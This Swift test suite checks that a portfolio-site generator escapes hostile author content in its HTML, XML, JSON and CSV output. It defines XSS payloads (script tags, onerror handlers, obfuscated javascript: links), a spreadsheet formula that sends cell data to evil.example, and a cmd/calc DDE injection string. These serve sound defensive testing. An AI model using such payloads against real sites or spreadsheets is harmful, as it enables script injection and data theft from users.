import Foundation
import Ingest
import Testing
import TestSupport
#if canImport(FoundationXML)
import FoundationXML
#endif

/// Issue #10, part 2: `Tests/Fixtures/hostile/` puts injection payloads in every field a
/// content author writes (pmo.yaml, portfolio, program, projects, milestones, risks, issues,
/// benefits, stakeholders, status reports, change requests, the register, roles that label
/// the SVG charts) and hostile Markdown in every body, with `markdown.unsafe: false`. The site
/// must build, and nothing raw may reach any output file.
@Suite struct HostileContentTests {
    static let fixture = Fixtures.repositoryRoot().appendingPathComponent("Tests/Fixtures/hostile")

    /// The payload every field carries after a word naming the field (as the fixture writes it).
    static let payload = #"<script>alert(1)</script> "><img src=x onerror=alert(1)> ' onmouseover='alert(1) ]]></text><script>alert(2)</script> </title></svg><svg onload=alert(3)> {{{raw}}} &lt;b&gt;"#
    static let formula = #"=HYPERLINK("http://evil.example/?"&A1,"x")"#
    /// The payload as Mustache escapes it: what a page must show.
    static let escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt; &#39; onmouseover=&#39;alert(1) ]]&gt;&lt;/text&gt;&lt;script&gt;alert(2)&lt;/script&gt; &lt;/title&gt;&lt;/svg&gt;&lt;svg onload=alert(3)&gt; {{{raw}}} &amp;lt;b&amp;gt;"

    /// The policy every page carries (docs/security.md), whatever its title or content.
    static let policy = #"<meta http-equiv="Content-Security-Policy" content="default-src 'self'; style-src 'self'; img-src 'self' data:">"#

    /// The fields a page shows, by the word before their payload; every one must reach some
    /// page, escaped, or the scan would prove nothing about it. (A benefit's `unit` and a
    /// rating's `note` are on no page today.)
    static let shownFields = [
        "SiteTitle", "PortfolioName", "ObjectiveName", "RoleName", "ProgramName", "ProgramSponsor", "ProgramManager",
        "BenefitName", "BenefitOwner", "StakeholderName", "StakeholderRole", "AlphaName", "AlphaManager", "AlphaSponsor",
        "AlphaCategory", "AlphaMilestone", "AlphaLate", "AlphaSoon", "AlphaRisk", "AlphaRiskOwner", "AlphaResponse",
        "AlphaIssue", "AlphaIssueOwner", "AlphaIssueStatus", "BetaName", "RatingBy", "OverallNote", "ChangeTitle",
        "PendingChange", "RegisterName",
    ]

    /// Builds the fixture with the real binary (extra arguments appended) and returns every output file.
    func build(_ extra: [String]) throws -> [String: Data] {
        let output = FileManager.default.temporaryDirectory.appendingPathComponent("pmo-hostile-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: output) }
        let run = try PMOBinary.run(["build", "--source", Self.fixture.path, "--output", output.path, "--quiet"] + extra)
        #expect(run.exitedNormally && run.status == 0, "\(run.stderr)")
        #expect(run.diagnostics.allSatisfy { !$0.contains(": error: ") }, "\(run.stderr)")
        return try FolderSnapshot(output).files.mapValues(\.bytes)
    }

    @Test(arguments: [[], ["--base-url", ""]])
    func everyOutputFileIsInert(_ extra: [String]) throws {
        let files = try build(extra)
        let absolute = extra.isEmpty  // pmo.yaml's base_url (itself hostile) is in force
        #expect(files["index.html"] != nil && files["data/portfolio.json"] != nil && files["feed.xml"] != nil)
        #expect((files["sitemap.xml"] != nil) == absolute)

        var kinds: [String: Int] = [:]
        var shown = ""
        for (path, data) in files.sorted(by: { $0.key < $1.key }) {
            let text = String(decoding: data, as: UTF8.self)
            let kind = (path as NSString).pathExtension
            kinds[kind, default: 0] += 1
            if ["html", "xml", "css", "svg"].contains(kind) {
                for raw in ["<script", "<iframe", "<object", "<embed", "<style", "javascript:alert"] {
                    // "javascript:alert" may appear only as visible text, which the scanner below
                    // tells apart from a link; in markup files it must never be raw in a tag.
                    if raw == "javascript:alert" { continue }
                    #expect(!text.lowercased().contains(raw), "\(path) holds a raw \(raw)")
                }
            }
            switch kind {
            case "html":
                shown += text
                #expect(text.contains(Self.policy), "\(path) lacks the Content-Security-Policy")
                let problems = MarkupScanner.problems(in: text)
                #expect(problems.isEmpty, "\(path): \(problems.prefix(5))")
                for svg in MarkupScanner.svgBlocks(in: text) {
                    let parsed = XMLCheck.parse(svg)
                    #expect(parsed.error == nil, "\(path): an inline SVG is not well-formed XML: \(parsed.error ?? "")")
                }
            case "xml":
                let parsed = XMLCheck.parse(text, collecting: "content")
                #expect(parsed.error == nil, "\(path) is not well-formed XML: \(parsed.error ?? "")")
                // Feed readers render an entry's `type="html"` content: it must be as inert as a page.
                for content in parsed.texts {
                    let problems = MarkupScanner.problems(in: "<div>" + content + "</div>")
                    #expect(problems.isEmpty, "\(path): an entry's content: \(problems.prefix(5))")
                }
                if path == "feed.xml" { #expect(parsed.texts.count == 4, "one entry per status report") }
            case "json":
                try checkJSON(data, path: path)
            case "csv":
                try checkCSV(text, path: path)
            default:
                break
            }
        }
        #expect(kinds["html", default: 0] >= 20 && kinds["csv"] == 4 && kinds["json"] == 1, "\(kinds)")
        // The scan saw the payloads: each field is on some page, escaped whole.
        for field in Self.shownFields {
            #expect(shown.contains("\(field) \(Self.escaped)"), "no page shows \(field), escaped")
        }
        #expect(shown.contains("&lt;script&gt;in code&lt;/script&gt;"), "the Markdown code span is shown as text")
    }

    /// Valid JSON that carries the author's text as it was written (escaping is the reader's job).
    func checkJSON(_ data: Data, path: String) throws {
        let root = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any], "\(path) is not a JSON object")
        let projects = try #require(root["projects"] as? [[String: Any]])
        let alpha = try #require(projects.first { $0["id"] as? String == "alpha" })
        #expect(alpha["name"] as? String == "\(Self.formula) AlphaName \(Self.payload)")
    }

    /// RFC 4180 that reads back cell for cell, with author text that starts like a formula
    /// neutralised by a leading `'` (docs/security.md) and numbers left as they are.
    func checkCSV(_ text: String, path: String) throws {
        let (records, problems) = CSVReader().read(text)
        #expect(problems.isEmpty, "\(path): \(problems)")
        let header = try #require(records.first).fields
        for record in records.dropFirst() {
            #expect(record.fields.count == header.count, "\(path):\(record.line) has \(record.fields.count) cells")
            for (column, cell) in zip(header, record.fields) {
                if let first = cell.unicodeScalars.first, "=+@\t\r".unicodeScalars.contains(first) {
                    Issue.record("\(path):\(record.line) `\(column)` starts like a formula: \(cell.prefix(30))")
                }
                if cell.hasPrefix("-"), Double(cell) == nil { Issue.record("\(path):\(record.line) `\(column)` starts with `-` and is not a number") }
            }
        }
        func cell(_ id: String, _ column: String, key: Int = 0) -> String? {
            guard let index = header.firstIndex(of: column) else { return nil }
            return records.dropFirst().first { $0.fields[key] == id }?.fields[index]
        }
        switch path {
        case "data/projects.csv":
            #expect(cell("alpha", "name") == "'\(Self.formula) AlphaName \(Self.payload)")
            #expect(cell("gamma", "manager")?.hasPrefix("'@SUM(1+1)*cmd|' /C calc'!A0 ") == true)
        case "data/risks.csv":
            #expect(cell("alpha", "title") == "'\(Self.formula) AlphaRisk \(Self.payload)")
            #expect(cell("alpha", "owner") == "'\(Self.formula) AlphaRiskOwner \(Self.payload)")
        case "data/capacity.csv":
            #expect(cell("'\(Self.formula) RoleName \(Self.payload)", "month") == "2026-01", "a role is author text")
        case "data/changes.csv":
            #expect(cell("CR-1", "title") == "'\(Self.formula) ChangeTitle \(Self.payload)")
            #expect(cell("CR-1", "cost") == "-20000", "a negative amount stays a number")
            #expect(cell("CR-2", "title") == "PendingChange \(Self.payload)", "text that is no formula is left alone")
        default:
            Issue.record("an unexpected CSV file \(path)")
        }
    }

    @Test func theScannerFindsEachKindOfLeak() {
        // The scan above passes only if it can fail: each of these is one leak it must report.
        let leaks = [
            "<p>a <script>alert(1)</script></p>",
            "<p><img src=\"x\" onerror=\"alert(1)\"></p>",
            "<p><a href=\"java&#x73;cript:alert(1)\">x</a></p>",
            "<p><a href=\" JaVaScRiPt&colon;alert(1)\">x</a></p>",
            "<p><a href=\"data:text/html,x\">x</a></p>",
            "<p><img src=\"data:image/svg+xml;base64,PHN2Zz4=\"></p>",
            "<p><iframe src=\"https://evil.example/\"></iframe></p>",
            "<svg><text>a</text><script>x</script></svg>",
            "<p title=\"a\" onmouseover=\"x\">b</p>",
            "<p title=a>b</p>",
            "<p>1 < 2</p>",
            "<svg><text>a</svg>",
            "<p class=\"x>b</p>",
        ]
        for html in leaks { #expect(!MarkupScanner.problems(in: html).isEmpty, "not found: \(html)") }
        let inert = [
            "<p>a &lt;script&gt;alert(1)&lt;/script&gt; &quot; onerror=x</p>",
            "<p><img src=\"data:image/png;base64,iVBORw0K\" alt=\"\" /><a href=\"../a/index.html#x\">a</a><a href=\"\">b</a></p>",
            "<!-- raw HTML omitted --><svg viewBox=\"0 0 1 1\"><text x=\"1\">&lt;/text&gt;</text><rect/></svg>",
        ]
        for html in inert { #expect(MarkupScanner.problems(in: html).isEmpty, "\(MarkupScanner.problems(in: html))") }
        #expect(XMLCheck.parse("<svg><text>a</text></svg>").error == nil)
        for broken in ["<svg><text>a</text><script></svg>", "<svg><text>a</svg>", "<svg>", "<a></b>", "<a>&nbsp;</a>"] {
            #expect(XMLCheck.parse(broken).error != nil, "\(broken)")
        }
    }

    @Test func aScriptBaseURLIsRefused() throws {
        // Every link starts with the base URL: `javascript:` would make each one a script.
        let run = try PMOBinary.run(["build", "--source", Self.fixture.path, "--output", "/nonexistent/x", "--base-url", "javascript:alert(1)//"])
        #expect(run.status == 2, "\(run.stderr)")
        #expect(run.stderr.contains("--base-url must be empty, an http:// or https:// URL, or a path starting with `/`"))
        let site = FileManager.default.temporaryDirectory.appendingPathComponent("pmo-hostile-url-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: site) }
        try FileManager.default.copyItem(at: Self.fixture, to: site)
        let yaml = site.appendingPathComponent("pmo.yaml")
        let text = try String(contentsOf: yaml, encoding: .utf8)
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        let line = try #require(lines.firstIndex { $0.hasPrefix("base_url:") })
        var changed = lines
        changed[line] = "base_url: \"data:text/html,<script>alert(1)</script>\""
        try changed.joined(separator: "\n").write(to: yaml, atomically: true, encoding: .utf8)
        let check = try PMOBinary.run(["check", "--source", site.path, "--quiet"])
        #expect(check.status == 1)
        // The value starts after `base_url: ` (10 characters): column 11.
        #expect(check.diagnostics == ["pmo.yaml:\(line + 1):11: error: `base_url` must be empty, an http:// or https:// URL, or a path starting with `/`, found `data:text/html,<script>alert(1)</script>` [invalid-url]"])
    }
}
